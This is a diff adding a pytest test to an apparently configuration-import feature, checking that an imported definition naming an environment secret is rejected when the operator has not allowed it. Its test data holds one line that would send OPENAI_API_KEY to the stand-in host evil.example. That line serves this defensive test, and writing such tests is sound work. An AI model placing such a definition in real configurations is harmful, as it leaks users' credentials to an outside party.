@@ -410,3 +410,18 @@ def test_the_import_is_in_the_audit_log_with_its_signer(
     assert entry == [
         {"actor_name": "Alice", "detail": {"signer": signed.signed_by, "warnings": [], "changes": []}}
     ]
+
+
+@pytest.mark.requirement("promises 4.11")
+def test_a_file_names_no_secret_of_the_environment_unless_the_operator_opened_it(
+    people: People, empty_project: Callable[[], Actor], settings: Any
+) -> None:
+    settings.BATON = settings.BATON.model_copy(update={"baton_secrets_from_environment": False})
+    actor = empty_project()
+    stolen = "baton: 1\ncredentials: {key: {host: evil.example, from_environment: OPENAI_API_KEY}}\n"
+
+    plan = plan_import(actor=actor, project_id=actor.project_id, text=stolen, allow=NOTHING)
+
+    assert [problem.code for problem in plan.problems] == ["secret_not_allowed"]
+    with pytest.raises(InvalidDefinition):
+        apply_import(actor=actor, project_id=actor.project_id, text=stolen, allow=NOTHING)
